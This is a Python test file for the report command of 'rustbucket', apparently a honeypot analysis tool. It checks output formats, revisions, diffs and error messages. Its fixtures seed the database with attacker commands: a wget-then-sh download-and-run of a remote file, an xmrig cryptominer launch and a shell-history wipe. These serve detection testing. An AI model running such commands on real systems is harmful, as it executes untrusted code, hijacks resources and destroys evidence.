"""`rustbucket report`: the stored report or one made at once, in every format; mistakes are one line."""

import json
from datetime import timedelta

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import build_analysis
from rustbucket_pipeline.cli.report import app
from rustbucket_pipeline.errors import BadWindow, UsageError
from rustbucket_pipeline.model.window import FOUR_HOURS, Window
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, tell


@pytest.fixture(autouse=True)
def environment(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command finds the test's database the way an operator's would be found."""
    assert settings.database_url is not None
    monkeypatch.setenv("RUSTBUCKET_HOME", str(settings.home))
    monkeypatch.setenv("RUSTBUCKET_DATABASE_URL", settings.database_url.get_secret_value())


@pytest.fixture
def reported(database: Engine, settings: Settings) -> str:
    """The key of a window with a stored report."""
    tell(database, [command("wget http://203.0.113.9/x; sh x")])
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, settings, WINDOW, NOW, None)
    return WINDOW.key


def printed(*arguments: str) -> str:
    result = CliRunner().invoke(app, list(arguments), catch_exceptions=False)
    assert result.exit_code == 0
    return result.stdout


def test_the_latest_report_is_printed_headline_first(reported: str) -> None:
    assert printed().startswith("HIGH: A file is fetched from the internet")
    assert printed() == printed("latest") == printed(reported)


def test_json_is_the_report_as_stored(reported: str) -> None:
    document = json.loads(printed(reported, "--format", "json"))
    assert (document["window"], document["severity"]) == (reported, "high")
    assert document["findings"][0]["id"] == "F1"


def test_markdown_has_a_title(reported: str) -> None:
    assert printed("--format", "md").startswith("# HIGH: ")


def test_html_is_one_document(reported: str) -> None:
    page = printed("latest", "--format", "html")
    assert page.startswith("<!doctype html>")
    assert page.rstrip().endswith("</html>")


@pytest.fixture
def twice(database: Engine, settings: Settings, reported: str) -> str:
    """The key of a window that was reported again, an hour later, for late rows."""
    tell(database, [command("./xmrig -o stratum+tcp://pool.example:3333", 9)])
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, settings, WINDOW, NOW + timedelta(hours=1), None)
    return reported


def test_as_of_says_what_was_said_then(twice: str) -> None:
    then = json.loads(
        printed(twice, "--as-of", f"{NOW + timedelta(minutes=59):%Y-%m-%dT%H:%M:%SZ}", "--format", "json")
    )
    today = json.loads(printed(twice, "--format", "json"))
    assert (then["revision"], today["revision"]) == (1, 2)
    assert "cryptominer" not in {finding["rule"] for finding in then["findings"]}
    assert "cryptominer" in {finding["rule"] for finding in today["findings"]}
    assert then["versions"]["digest_sha256"] != today["versions"]["digest_sha256"]
    assert "said 2026-03-02 10:20 UTC, revision 1 of 2" in printed(twice, "--as-of", "2026-03-02T11:00:00Z")


def test_diff_compares_with_the_newest_report(database: Engine, settings: Settings, reported: str) -> None:
    later = Window(WINDOW.end, FOUR_HOURS)
    tell(database, [command("history -c", later.start)])
    build_digest(database, later, NOW, None)
    build_analysis(database, settings, later, NOW, None)
    found = json.loads(printed("diff", reported, "--json"))
    assert (found["before"], found["after"]) == (reported, later.key)
    assert {one["rule"]: one["change"] for one in found["findings"]}["history-wiped"] == "new"
    assert f"{later.key} against {reported}: 1 new findings" in printed("diff", reported)


def test_now_makes_a_report_of_the_newest_rows(database: Engine) -> None:
    tell(database, [command("uname -a")])
    assert printed("--now").startswith("LOW: The system is looked over (F1).")
    assert "2026-03-02 04:00–08:00 UTC" in printed("--now", WINDOW.key)


@pytest.mark.parametrize(
    ("arguments", "error", "told"),
    [
        ((), UsageError, "no window has been reported yet; `rustbucket report --now`"),
        (("2026-03-02-04:00",), UsageError, "hasn't been reported"),
        (("2026-03-02-05:00",), BadWindow, "isn't on a border"),
        (("yesterday",), BadWindow, "is no window"),
        (("yesterday", "--now"), BadWindow, "is no window"),
        (("--now", "--as-of", "1h"), UsageError, "leave out --as-of, or --now"),
        (("--as-of", "1h"), UsageError, "no window had been reported by "),
        (("2026-03-02-04:00", "--as-of", "soon"), UsageError, "is no time"),
        (("diff", "2026-03-02-04:00"), UsageError, "hasn't been reported"),
    ],
)
def test_mistakes_say_what_to_do(arguments: tuple[str, ...], error: type[Exception], told: str) -> None:
    with pytest.raises(error, match=told):
        CliRunner().invoke(app, list(arguments), catch_exceptions=False)
